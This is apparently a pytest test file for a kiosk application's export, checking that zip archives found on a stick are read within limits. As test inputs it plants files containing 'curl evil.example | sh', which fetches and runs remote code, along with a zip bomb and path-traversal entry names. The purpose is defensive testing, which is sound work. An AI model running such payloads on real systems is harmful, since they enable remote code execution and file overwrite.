"""An export zip on a stick is read entry by entry within limits, never unpacked blind (issue 17, item 9): a zip
bomb is not unpacked, a file planted in the zip never travels into the new one, by export or by withdrawal."""

import zipfile
from pathlib import Path

import pytest

from kiosk.config import load
from kiosk.export import ExportError, ExportOptions, export_record, refresh
from kiosk.store import ClipStore
from kiosk.store import exported
from kiosk.store.exported import EXPORT_MARKER, ZippedRecord, read_marker
from kiosk.store.media import sha256
from kiosk.store.withdraw import withdraw
from tests.cli_runner import kiosk
from tests.export.engine_clips import copy_kiosks

CONFIG = load()[0]
PLANTED = ("record/clips/frontline/run-me.sh", "record/notes.txt", "record/clips/frontline/20250101T000000_frontline_"
           "deadbeef.mp4", "elsewhere/secret.txt", "record/clips/")


@pytest.fixture
def kiosk_a(tmp_path_factory, tmp_path):
    return copy_kiosks(tmp_path_factory, tmp_path)[0]


def _export(sources, dest, **options):
    return export_record(list(sources), dest, ExportOptions(config=CONFIG, durable=False, **options))


def _rewrite(archive: Path, replace: dict[str, bytes] = {}, add: dict[str, bytes] = {}, compress=zipfile.ZIP_DEFLATED):
    """The zip as a stick's owner could leave it: entries replaced or added, the rest as they were."""
    rewritten = archive.with_name("rewritten.zip")
    with zipfile.ZipFile(archive) as old, zipfile.ZipFile(rewritten, "w") as new:
        for info in old.infolist():
            if info.filename not in replace:
                new.writestr(info, old.read(info))
        for name, content in {**replace, **add}.items():
            new.writestr(name, content, compress_type=compress)
    rewritten.replace(archive)


def _clip_entries(archive: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(archive) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


def test_files_planted_in_an_export_zip_never_travel_into_the_new_zip(kiosk_a, tmp_path):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    _rewrite(archive, add={name: b"#!/bin/sh\ncurl evil.example | sh\n" for name in PLANTED})
    report = _export([kiosk_a], archive, zip=True)
    entries = _clip_entries(archive)
    assert not set(PLANTED) & set(entries) and not [c for c in entries.values() if b"evil.example" in c]
    assert any("that its export did not write" in note and "evil" not in note for note in map(str, report.skipped))
    assert report.clips == 3 and sum(name.endswith(".mp4") for name in entries) == 3

    _rewrite(archive, add={name: b"curl evil.example | sh\n" for name in PLANTED})
    clip = ClipStore(kiosk_a).list().clips[0]
    withdrawn = withdraw(ClipStore(kiosk_a), clip.code, refresh=refresh)
    assert withdrawn.exports_updated == (archive,)
    entries = _clip_entries(archive)
    assert not set(PLANTED) & set(entries) and sum(name.endswith(".mp4") for name in entries) == 2
    assert clip.sidecar.id not in entries["record/manifest.csv"].decode("utf-8-sig")


def test_a_zip_bomb_in_an_export_zip_is_not_unpacked(kiosk_a, tmp_path, monkeypatch):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    marker = read_marker_in(archive)
    entry = next(iter(marker.clips.values()))
    bomb = b"\0" * (64 * 1024 * 1024)  # deflates to some 64 KB: a thousand times
    _rewrite(archive, replace={f"record/{entry.sidecar}": bomb, "record/index.html": bomb},
             add={"record/bomb.bin": bomb})
    assert archive.stat().st_size < 2 * 1024 * 1024 + sum(size_of_media(archive))
    written = _spy_on_unpacking(monkeypatch)
    report = _export([kiosk_a], archive, zip=True)
    assert written and max(size for _, size in written) < 8 * 1024 * 1024  # no bomb was ever written out
    assert report.clips == 3 and not report.damaged
    entries = _clip_entries(archive)
    assert "record/bomb.bin" not in entries and bomb not in entries.values()
    assert b"<html" in entries["record/index.html"].lower()  # the gallery is written anew
    clip = next(c for c in ClipStore(kiosk_a).list().clips if c.sidecar.id == next(iter(marker.clips)))
    assert clip.sidecar.id.encode() in entries[f"record/{entry.sidecar}"]  # the sidecar is the export's again


def test_a_clip_video_larger_than_its_marker_says_is_left_in_the_old_zip_and_copied_again(kiosk_a, tmp_path,
                                                                                         monkeypatch):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    clip_id, entry = next(iter(read_marker_in(archive).clips.items()))
    _rewrite(archive, replace={f"record/{entry.video}": b"\0" * (entry.size + 1)}, compress=zipfile.ZIP_STORED)
    written = _spy_on_unpacking(monkeypatch)
    report = _export([kiosk_a], archive, zip=True)
    assert f"record/{entry.video}" not in {name for name, _ in written} and len(written) > 3
    assert report.clips == 3 and not report.damaged
    clip = next(c for c in ClipStore(kiosk_a).list().clips if c.sidecar.id == clip_id)
    assert _clip_entries(archive)[f"record/{entry.video}"] == clip.media_path.read_bytes()


def _spy_on_unpacking(monkeypatch) -> list[tuple[str, int]]:
    """(entry, declared size) of every entry written out of a zip from now on."""
    written = []
    real_copy = exported._copy_entry

    def copy_entry(zipped, info, target, limit):
        written.append((info.filename, info.file_size))
        real_copy(zipped, info, target, limit)

    monkeypatch.setattr(exported, "_copy_entry", copy_entry)
    return written


def test_a_zip_declaring_more_entries_than_an_export_writes_is_refused_before_it_is_read(kiosk_a, tmp_path,
                                                                                        monkeypatch):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    _rewrite(archive, add={f"record/junk/{number}": b"" for number in range(70_000)})  # a ZIP64 end record
    assert exported._declared_entries(archive) == len(zipfile.ZipFile(archive).infolist()) > 70_000
    monkeypatch.setattr(exported, "MAX_ZIP_ENTRIES", 65_000)
    loaded = []
    monkeypatch.setattr(zipfile.ZipFile, "_RealGetContents", lambda self: loaded.append(self) or (_ for _ in ()).throw(
        AssertionError("zipfile read the central directory")))
    with pytest.raises(ExportError, match="declares 70,0.. entries, more than an export writes"):
        _export([kiosk_a], archive, zip=True)
    assert loaded == []


def test_entries_named_to_leave_the_record_are_left_out_by_kiosk_export(kiosk_a, tmp_path):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    _rewrite(archive, add={"record/../../escape.txt": b"out", "record/a\\..\\b": b"x", "/abs.txt": b"x"})
    result = kiosk("export", archive, "--zip", "--recordings", kiosk_a)
    assert result.returncode == 0, result.stderr
    assert "3 files in record.zip that its export did not write" in result.stderr
    assert not (tmp_path / "escape.txt").exists() and not (tmp_path.parent / "escape.txt").exists()
    assert not [name for name in _clip_entries(archive) if ".." in name or "\\" in name or name.startswith("/")]


def test_a_zipped_record_reads_its_marker_within_its_limit(kiosk_a, tmp_path, monkeypatch):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    monkeypatch.setattr(exported, "MAX_MARKER_BYTES", 100)
    with pytest.raises(ValueError, match="more than 100"):
        ZippedRecord(archive)


def read_marker_in(archive: Path):
    with zipfile.ZipFile(archive) as zipped:
        unpacked = archive.parent / "marker-only"
        unpacked.mkdir(exist_ok=True)
        (unpacked / EXPORT_MARKER).write_bytes(zipped.read(f"record/{EXPORT_MARKER}"))
    return read_marker(unpacked)


def size_of_media(archive: Path):
    with zipfile.ZipFile(archive) as zipped:
        return [info.compress_size for info in zipped.infolist() if info.filename.endswith(".mp4")]


def test_the_sha256_of_a_copy_in_the_zip_is_the_clips(kiosk_a, tmp_path):
    archive = _export([kiosk_a], tmp_path / "record", zip=True).dest
    unpacked = tmp_path / "unpacked"
    unpacked.mkdir()
    with ZippedRecord(archive) as record:
        folder, left = record.unpack(unpacked)
    assert left == []
    for clip in ClipStore(kiosk_a).list().clips:
        entry = read_marker(folder).clips[clip.sidecar.id]
        assert sha256(folder / entry.video) == clip.sidecar.sha256
